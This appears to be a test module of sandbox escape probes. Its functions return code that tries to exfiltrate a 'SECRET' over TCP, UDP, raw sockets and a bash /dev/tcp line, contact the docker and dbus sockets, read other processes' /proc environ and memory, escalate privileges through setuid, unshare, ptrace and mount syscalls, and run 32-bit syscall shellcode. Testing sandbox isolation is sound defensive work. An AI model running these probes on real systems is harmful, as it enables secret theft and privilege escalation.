"""The machine: network, other processes, shared memory, privileges. Nothing may be in `reached`."""

from .case import SHORT, attack


@attack
def internet():
    """Calls home by TCP, UDP, raw, packet, netlink and virtual machine sockets."""
    return """
import socket, urllib.request
def send(family, kind, address, number=0):
    with socket.socket(family, kind, number) as link:
        link.settimeout(0.2)
        link.connect(address)
        link.send(b"SECRET")
        return address
attempt("tcp", lambda: send(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", TCP)))
attempt("tcp by name", lambda: socket.create_connection(("localhost", TCP), 0.2))
attempt("tcp 6", lambda: send(socket.AF_INET6, socket.SOCK_STREAM, ("::1", TCP)))
attempt("mapped", lambda: send(socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", TCP)))
attempt("udp", lambda: send(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", UDP)))
attempt("broadcast", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("255.255.255.255", UDP)))
attempt("raw", lambda: send(socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0), socket.IPPROTO_ICMP))
attempt("ping", lambda: send(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0), socket.IPPROTO_ICMP))
attempt("multipath", lambda: send(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", TCP), 262))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
attempt("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
attempt("crypto", lambda: socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET))
attempt("bluetooth", lambda: socket.socket(31, socket.SOCK_RAW))
attempt("listen", lambda: socket.socket().bind(("127.0.0.1", 0)))
attempt("url", lambda: urllib.request.urlopen(f"http://127.0.0.1:{TCP}/SECRET", timeout=0.2))
attempt("shell", lambda: 1 / (os.system(f"bash -c 'echo SECRET > /dev/tcp/127.0.0.1/{TCP}' 2>/dev/null") == 0))
report()
"""


@attack
def local_sockets():
    """Talks to sockets of the machine that lie in the file system or have an abstract name."""
    return """
import socket
def send(kind, address):
    link = socket.socket(socket.AF_UNIX, kind)
    link.connect(address)
    link.send(b"SECRET")
def pair():
    near, far = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    near.sendto(b"SECRET", DATAGRAM)
def message():
    near, far = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    near.sendmsg([b"SECRET"], [], 0, DATAGRAM)
attempt("path", lambda: send(socket.SOCK_STREAM, STREAM))
attempt("datagram", lambda: send(socket.SOCK_DGRAM, DATAGRAM))
attempt("pair", pair)
attempt("message", message)
attempt("abstract", lambda: send(socket.SOCK_STREAM, ABSTRACT))
for path in ("/run/systemd/private", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
    attempt(path, lambda: send(socket.SOCK_STREAM, path))
report()
"""


@attack
def other_processes():
    """Looks at the environment, memory, files and commands of other processes."""
    return """
import ctypes
own = {os.getpid()}
others = {WATCHER, WORKER, ZYGOTE, os.getppid()} - {0, 1}
try:
    others |= {int(name) for name in os.listdir("/proc") if name.isdecimal()}
except OSError:
    pass
for pid in sorted(others - own):
    for name in ("environ", "cmdline", "maps", "status"):
        attempt(f"{name} of {pid}", lambda: open(f"/proc/{pid}/{name}", "rb").read(50) or 1 / 0)
    attempt(f"memory of {pid}", lambda: open(f"/proc/{pid}/mem", "r+b", 0))
    for name in ("fd", "task"):
        attempt(f"{name} of {pid}", lambda: os.listdir(f"/proc/{pid}/{name}"))
    for name in ("cwd", "root", "exe"):
        attempt(f"{name} of {pid}", lambda: os.readlink(f"/proc/{pid}/{name}"))
report()
"""


@attack
def own_environment():
    """Looks for secrets in its environment, command line and descriptors."""
    return """
import stat
def secrets():
    texts = [str(dict(os.environ))]
    for name in ("environ", "cmdline"):
        try:
            texts.append(open(f"/proc/self/{name}").read())
        except OSError:
            pass
    return "SECRET" if "SECRET" in " ".join(texts) else 1 / 0
attempt("environment", secrets)
expected = {0: stat.S_ISCHR, 1: stat.S_ISFIFO, 2: stat.S_ISFIFO, 3: stat.S_ISSOCK}
for number in range(1024):
    known = expected.get(number, lambda mode: False)
    attempt(f"descriptor {number}", lambda: 1 / (not known(os.fstat(number).st_mode)))
report()
"""


@attack
def shared_memory():
    """Uses memory, semaphores, queues and keys that other processes may have left."""
    return """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    if libc.syscall(number, *arguments) < 0:
        raise OSError(ctypes.get_errno())
attempt("posix", lambda: open(SHARED, "rb").read())
attempt("list", lambda: os.listdir("/dev/shm"))
attempt("make", lambda: open("/dev/shm/evil", "w"))
from multiprocessing import shared_memory
attempt("python", lambda: shared_memory.SharedMemory("evil", True, 10))
CALLS = [
    ("shmget", 29, 0x5E61AB, 4096, 0o1666), ("semget", 64, 5, 1, 0o1666), ("msgget", 68, 5, 0o1666),
    ("mq_open", 240, b"/evil", 0o102, 0o666, None), ("keyctl", 250, 0, -3, 0),
    ("add_key", 248, b"user", b"x", b"y", 1, -3),
    ("memfd", 319, b"x", 0), ("memfd_secret", 447, 0),
]
for name, number, *arguments in CALLS if os.uname().machine == "x86_64" else ():
    attempt(name, lambda: call(number, *arguments))
report()
"""


@attack
def privileges():
    """Asks for users, capabilities, namespaces, mounts, tracing and kernel interfaces that it must not have."""
    return """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    if libc.syscall(number, *arguments) < 0:
        raise OSError(ctypes.get_errno())
for name in ("setuid", "setgid", "seteuid", "setegid"):
    attempt(name, lambda: getattr(os, name)(0) or 1 / (os.getuid() == 0))
attempt("groups", lambda: os.setgroups([0]))
attempt("root", lambda: os.chroot("."))
attempt("device", lambda: os.mknod("device", 0o60600, os.makedev(254, 0)))
os.mkdir("jail")
NEW = (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000, 0x80)
CALLS = [
    ("ptrace", 101, 16, WATCHER, 0, 0), ("trace me", 101, 0, 0, 0, 0), ("vm read", 310, WATCHER, 0, 0, 0, 0, 0),
    ("kcmp", 312, os.getpid(), WATCHER, 0, 0, 0), *((f"unshare {flag:x}", 272, flag) for flag in NEW),
    ("clone", 56, 0x10000000 | 17, 0, 0, 0, 0), ("clone3", 435, bytes(88), 88), ("setns", 308, 0, 0),
    ("mount", 165, b"none", b"jail", b"tmpfs", 0, 0), ("bind", 165, b"/", b"jail", 0, 4096, 0),
    ("umount", 166, b"/proc", 2), ("pivot", 155, b".", b"jail"), ("open_tree", 428, -100, b"/", 1),
    ("fsopen", 430, b"tmpfs", 0), ("mount_setattr", 442, -100, b"/", 0, bytes(32), 32), ("bpf", 321, 0, bytes(64), 64),
    ("perf", 298, bytes(112), 0, -1, -1, 0), ("userfaultfd", 323, 0), ("io_uring", 425, 8, bytes(120)),
    ("handle", 303, -100, b"/", bytes(136), bytes(4), 0), ("by handle", 304, 0, bytes(136), 0),
    ("personality", 135, 0x40000), ("module", 313, 0, b"", 0), ("iopl", 172, 3), ("ioperm", 173, 0, 8, 1),
    ("quota", 179, 0, 0, 0, 0), ("pidfd_getfd", 438, 3, 0, 0), ("x32 call", 0x40000000 + 39),
    ("capset", 126, (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)),
]
for name, number, *arguments in CALLS if os.uname().machine == "x86_64" else ():
    attempt(name, lambda: call(number, *arguments))
PROGRAM = "test $(su -c 'id -u' < /dev/null 2>/dev/null || echo 1) = 0"
attempt("program as root", lambda: 1 / (os.system(PROGRAM) == 0))
attempt("new namespace by program", lambda: 1 / (os.system("unshare -Ur true 2>/dev/null") == 0))
report()
"""


@attack(costs=True)
def other_architecture():
    """Makes a system call in 32-bit mode, where the numbers differ."""
    return """
import ctypes, mmap
if os.uname().machine == "x86_64":
    code = mmap.mmap(-1, 4096, prot=7)
    code.write(bytes.fromhex("53b814000000cd805bc3"))  # push rbx; mov eax, 20; int 0x80; pop rbx; ret
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    attempt("getpid of 32 bits", lambda: 1 / (function() > 0))
report()
"""


@attack(wrong=("greet",), costs=True, settings=SHORT)
def own_filter():
    """Installs system call filters and Landlock rules of its own, under which reports fail."""
    return """
import ctypes, struct
libc = ctypes.CDLL(None)
LINES = (0x20, 0, 0, 0), (0x15, 0, 1, 1), (6, 0, 0, 0x50000), (6, 0, 0, 0x7FFF0000)
program = b"".join(struct.pack("<HBBI", *line) for line in LINES)
buffer = ctypes.create_string_buffer(program)
libc.prctl(22, 2, ctypes.create_string_buffer(struct.pack("<HxxxxxxQ", 4, ctypes.addressof(buffer))), 0, 0)
"""
